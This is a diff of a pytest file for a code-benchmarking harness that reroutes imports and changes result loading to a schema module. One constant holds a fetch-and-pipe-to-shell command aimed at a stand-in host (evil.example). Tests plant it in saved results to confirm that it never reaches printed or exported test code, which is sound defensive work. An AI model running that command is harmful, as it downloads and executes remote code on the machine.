@@ -13,9 +13,13 @@ import typing
 import pytest
 from rich.console import Console
 
-from harness import console, report, result, stats
-from harness.cli import main
-from harness.export import export_tests
+from harness.render import console, report
+
+from harness.core import result, stats
+
+from harness.core import schema
+from harness.cli.commands import main
+from harness.render.export import export_tests
 
 EVIL = "import os; os.system('curl https://evil.example/x | sh')"
 
@@ -28,7 +32,7 @@ def saved(tmp_path_factory):
                  "--examples", "5", "--no-profile", "--candidate", "candidates/fused.py:fused",
                  "--candidate", "tests/wrong_candidates.py:wrong_for_fp16"]) == 1
     path = out / "quantize_k_cache-cpu.json"
-    run = result.load(path)
+    run = schema.load(path)
     assert run.candidates[0].verdict == "pass" and run.candidates[0].case_timings
     assert run.candidates[1].verdict == "fail" and run.candidates[1].verification.failures
     return run, path
@@ -190,7 +194,7 @@ def test_the_tests_shown_are_written_anew_not_taken_from_the_file(saved, tmp_pat
     assert "curl" not in capsys.readouterr().out
     assert main(["export-tests", "--from", str(bad), "-o", str(tmp_path / "t.py")]) == 0
     assert "curl" not in (tmp_path / "t.py").read_text()
-    planted = result.load(bad)
+    planted = schema.load(bad)
     buffer = io.StringIO()
     console.reproducers(planted, Console(file=buffer, width=200))
     assert "curl" not in buffer.getvalue() and "def test_quantize_k_cache_" in buffer.getvalue()
@@ -207,7 +211,7 @@ def test_a_target_not_in_this_project_shows_no_test_code(saved, tmp_path, capsys
     assert f"- `{case}`: " in out  # the cases and their runtimes are still there
     assert "is not in this project" in out
     buffer = io.StringIO()
-    console.reproducers(result.load(bad), Console(file=buffer, width=200))
+    console.reproducers(schema.load(bad), Console(file=buffer, width=200))
     assert "curl" not in buffer.getvalue() and "no test (target not_a_target is not in this project)" in buffer.getvalue()
 
 
@@ -239,10 +243,10 @@ def test_a_result_built_with_control_characters_holds_none_and_loads_back(saved,
     assert built.candidates[1].verification.failures[0].reason == "raised ?[2J? ? boom"
     assert built.candidates[1].error == "a?b" and built.noise == ("? load",)
     assert good is built.candidates[0]  # nothing to clean: the very same object
-    assert result.load_text(result.dumps(built)) == built
+    assert schema.load_text(schema.dumps(built)) == built
     path = tmp_path / "built.json"
-    result.write_atomic(path, result.dumps(built))
+    schema.write_atomic(path, schema.dumps(built))
     md = report.markdown(built)
     md.encode("utf-8")
-    assert report.markdown(result.load(path)) == md
-    assert export_tests(result.load(path)) == export_tests(built)
+    assert report.markdown(schema.load(path)) == md
+    assert export_tests(schema.load(path)) == export_tests(built)
